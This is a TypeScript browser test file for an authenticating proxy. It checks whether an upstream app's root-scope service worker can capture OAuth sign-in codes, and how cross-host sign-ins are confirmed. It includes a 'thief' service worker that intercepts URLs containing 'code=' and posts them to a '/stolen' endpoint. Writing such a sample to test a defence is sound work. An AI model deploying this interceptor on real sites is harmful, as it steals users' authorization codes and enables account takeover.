// In a real browser: an application has a service worker for its whole host, and takes the code of a sign-in that it began
// from a program of its own.
import { afterAll, beforeAll, beforeEach, describe, expect, jest, test } from '@jest/globals';
import { loadUpstreams } from '@latchkey/upstreams';
import type { Browser as Chromium, Page } from 'playwright-core';
import { Browser } from '@latchkey/testing/browser';
import { findChromium, startChromium } from '../fixtures/chromium.ts';
import { startStack } from '../fixtures/stack.ts';
import type { Stack } from '../fixtures/stack.ts';

const executable = findChromium();
jest.setTimeout(60_000);
const describeInBrowser = executable === undefined ? describe.skip : describe;

const upstreams = (allowed: boolean) => `
- service: wiki
  default: {from: wiki.latchkey.localhost, to: '{{app}}', options: {allowed_email_domains: [example.com]}}
- service: payroll
  default: {from: payroll.elsewhere.localhost, to: '{{app}}', options: {allowed_email_domains: [example.com], allow_root_service_worker: ${allowed}}}
`;

// Keeps every address that it sees, and sends home what looks like a code.
const thief = `
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  if (event.request.url.includes('code=')) {
    event.respondWith(fetch('/stolen', { method: 'POST', body: event.request.url }).then(() => new Response('gone')));
  }
});
`;

describeInBrowser('an application with a service worker', () => {
  let stack: Stack;
  let chromium: Chromium;
  let page: Page;
  let stolen: string[];
  const at = (target: string) => `http://payroll.elsewhere.localhost:${stack.ports.proxy}${target}`;

  beforeAll(async () => {
    stack = await startStack({
      upstreams: upstreams(false),
      authEnv: { AUTHORIZE_PROXY_DOMAINS: 'latchkey.localhost,elsewhere.localhost' },
    });
    stack.app.answer = (req, res) => {
      if (req.url === '/sw.js') return res.writeHead(200, { 'content-type': 'text/javascript' }).end(thief);
      if (req.url === '/stolen')
        return req.on('data', (url: Buffer) => stolen.push(url.toString())) && res.end();
      return res.writeHead(200, { 'content-type': 'text/html' }).end('<title>payroll</title>');
    };
    chromium = await startChromium(executable ?? '');
  });
  beforeEach(async () => {
    stolen = [];
    page = await (await chromium.newContext()).newPage();
    await page.goto(at('/'));
    await page.getByRole('button', { name: 'engineer@example.com' }).click();
    await page.waitForURL(at('/'));
  });
  afterAll(async () => {
    await chromium.close();
    await stack.close();
  });

  function allow(allowed: boolean): void {
    const { table } = loadUpstreams({
      ...stack.proxySettings.upstream,
      file: 'test.yml',
      text: upstreams(allowed).replaceAll('{{app}}', `127.0.0.1:${stack.app.port}`),
    });
    if (table === undefined) throw new Error('the file is not read');
    stack.table.replace(table);
  }

  // The link to auth of a sign-in that a program has begun.
  async function linkOfAProgram(): Promise<string> {
    const program = new Browser();
    const first = await program.visit(at('/'), { follow: false });
    const start = await program.visit(String(first.headers['location']), { follow: false });
    await program.close();
    return String(start.headers['location']);
  }

  async function follow(link: string): Promise<void> {
    const end = page.waitForEvent('load');
    await page.evaluate((href) => location.assign(href), link);
    await end;
  }

  // The application's page sends the person's browser to auth with it.
  const attack = async () => follow(await linkOfAProgram());

  const register = () =>
    page.evaluate(async () => {
      await navigator.serviceWorker.register('/sw.js');
    });
  const registrations = () =>
    page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length);

  test('gets none for the whole host, and with it no code', async () => {
    await register();
    await page.waitForFunction(async () => (await navigator.serviceWorker.getRegistrations()).length === 0);
    await page.goto(at('/a'));
    await attack();
    expect(stolen).toEqual([]);
  });

  test('loses the one that it had', async () => {
    allow(true);
    await register();
    await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
    await attack();
    // This is what `allow_root_service_worker` means, and that the attack is one.
    expect(stolen).toEqual([expect.stringContaining('/oauth2/callback?code=')]);

    allow(false);
    await page.goto(at('/b'));
    await page.waitForFunction(async () => (await navigator.serviceWorker.getRegistrations()).length === 0);
    await page.goto(at('/c'));
    stolen = [];
    await attack();
    expect(stolen).toEqual([]);
    expect(await registrations()).toBe(0);
  });

  test('is reached from a page of another host without a question; a sign-in that another host begins is asked about', async () => {
    await page.context().clearCookies({ domain: 'payroll.elsewhere.localhost' });
    await page.goto(stack.url('wiki'));
    await page.evaluate((href) => location.assign(href), at('/linked'));
    await page.waitForURL(at('/linked'));

    await page.goto(stack.url('wiki'));
    await follow(await linkOfAProgram());
    expect(await page.title()).toBe('Sign in to payroll.elsewhere.localhost');
    await page.getByRole('link', { name: 'Go on' }).click();
    await page.waitForURL(at('/'));
  });
});
